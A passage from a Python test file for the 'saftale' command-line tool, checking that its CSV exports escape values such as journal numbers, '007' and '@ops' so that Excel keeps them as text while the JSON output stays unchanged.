    ok(saftale("import", str(write(tmp_path / "h.jsonl", history)), db=db, cwd=tmp_path))
    subjects, audit, as_json = many(
        [
            ("show", "subjects", "--format", "csv"),
            ("audit", "--format", "csv"),
            ("show", "subjects", "--format", "json"),
        ],
        db=db,
        cwd=tmp_path,
    )
    header, row = csv_rows(ok(subjects))
    assert dict(zip(header, row, strict=True))["title"] == "'" + title
    header, row = csv_rows(ok(audit))
    audited = dict(zip(header, row, strict=True))
    assert audited["recorded_by"] == "'@ops"
    assert audited["on"] == f'="{first_fact.on}"'  # a period is text (see below)
    assert as_json.json()[0]["title"] == title  # programs get the text unchanged
    for cell in [c for r in csv_rows(subjects) + csv_rows(audit) for c in r]:
        assert not cell.startswith(("+", "-", "@")), cell
        assert not cell.startswith("=") or re.fullmatch(r'="(?:[^"]|"")*"', cell), cell


def unexcel(cell: str) -> str:
    """A CSV cell's text, its escaping undone as docs/reference/cli.md says."""
    if re.fullmatch(r'="(?:[^"]|"")*"', cell, flags=re.DOTALL):
        return cell[2:-1].replace('""', '"')
    return cell[1:] if cell.startswith("'") else cell


def test_csv_texts_that_excel_would_change_are_kept_as_text(tmp_path: Path) -> None:
    """A journal number as a subject key, a recorder "007" and a title "maj 2019" would
    open in a Danish Excel as a date, the number 7 and 1 May 2019: they are written as
    ="..." and come back unchanged; days open as dates, recording times as date-times
    (UTC), counts as numbers."""
    facts = agreement_path("01-30-72-225-15")
    history = [line(facts[0], title="maj 2019", recorded_by="007"), *lines_of(facts[1:3])]
    db = f"sqlite:///{tmp_path / 's.db'}"
    ok(saftale("import", str(write(tmp_path / "h.jsonl", history)), db=db, cwd=tmp_path))
    subjects, audit, audit_json = many(
        [
            ("show", "subjects", "--format", "csv"),
            ("audit", "--format", "csv"),
            ("audit", "--format", "json"),
        ],
        db=db,
        cwd=tmp_path,
    )
    header, row = csv_rows(ok(subjects))
    status = dict(zip(header, row, strict=True))
    assert status["subject"] == '="01-30-72-225-15"'
    assert status["title"] == '="maj 2019"'
    assert status["since"] in {str(f.on) for f in facts[:3]}  # a day: Excel opens it as a date
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", status["since"])
    assert status["approved_by_councils"] == "0"  # a count: a number
    header, *rows = csv_rows(ok(audit))
    first_row = dict(zip(header, rows[0], strict=True))
    assert first_row["recorded_by"] == '="007"'
    assert first_row["on"] == f'="{facts[0].on}"'
    assert first_row["position"] == "1"
    recorded = dt.datetime.fromisoformat(audit_json.json()[0]["recorded_at"])
    assert first_row["recorded_at"] == recorded.astimezone(dt.UTC).strftime("%Y-%m-%d %H:%M:%S")
    as_json = audit_json.json()
    for entry, cells in zip(as_json, rows, strict=True):
        shown = dict(zip(header, map(unexcel, cells), strict=True))
        for key in ("subject", "type", "on", "by", "recorded_by"):
            assert shown[key] == str(entry[key]), key
